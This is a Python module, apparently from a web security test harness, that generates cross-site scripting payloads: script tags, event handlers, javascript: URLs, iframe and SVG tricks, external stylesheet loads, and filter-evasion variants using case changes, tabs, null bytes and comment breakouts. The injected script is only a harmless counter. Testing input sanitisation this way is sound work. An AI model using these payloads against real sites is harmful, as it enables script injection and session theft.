"""Script injection payloads for the inputs of the web page."""

from itertools import cycle, islice

SCRIPT = "window.seen.ran++"
BASIC = (
    f"<script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"</textarea><script>{SCRIPT}</script>",
    f"</title><script>{SCRIPT}</script>",
    f"<img src=x onerror={SCRIPT}>",
    f"'\"><img src=x onerror={SCRIPT}>",
    f"<svg onload={SCRIPT}>",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg><animate onbegin={SCRIPT} attributeName=x dur=1s>",
    f"<body onload={SCRIPT}>",
    f"<input autofocus onfocus={SCRIPT}>",
    f"<details open ontoggle={SCRIPT}>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
    f"<iframe src=javascript:parent.{SCRIPT}>",
    f"<a href=javascript:{SCRIPT}>here</a>",
    f"javascript:{SCRIPT}",
    f"<math><mtext></mtext><img src=x onerror={SCRIPT}></math>",
    "<style>@import '//elsewhere.test/x.css';</style><p style=background:url(//elsewhere.test/y)>",
    "<link rel=stylesheet href=//elsewhere.test/z.css><base href=//elsewhere.test/>",
    f"<object data=javascript:{SCRIPT}></object><embed src=javascript:{SCRIPT}>",
    f"<form action=javascript:{SCRIPT}><button autofocus>press</button></form>",
    f"${{{SCRIPT}}} {{{{constructor.constructor('{SCRIPT}')()}}}}",
    f"\u2028<script>{SCRIPT}</script>\u2029\u202e\ufeff",
    f"%3Cscript%3E{SCRIPT}%3C/script%3E &lt;script&gt;{SCRIPT}&lt;/script&gt;",
)
VARIANTS = (
    str,
    str.upper,
    lambda text: text.replace("<", "<\t").replace("=", " = "),
    lambda text: text.replace("script", "scr\0ipt").replace("on", "oN"),
    lambda text: f"{text}]]>--><!--{text}",
)


def payloads(count: int) -> list[str]:
    """This many payloads, unmodified ones first."""
    all_payloads = (variant(text) for variant in VARIANTS for text in BASIC)
    return list(islice(cycle(all_payloads), count))
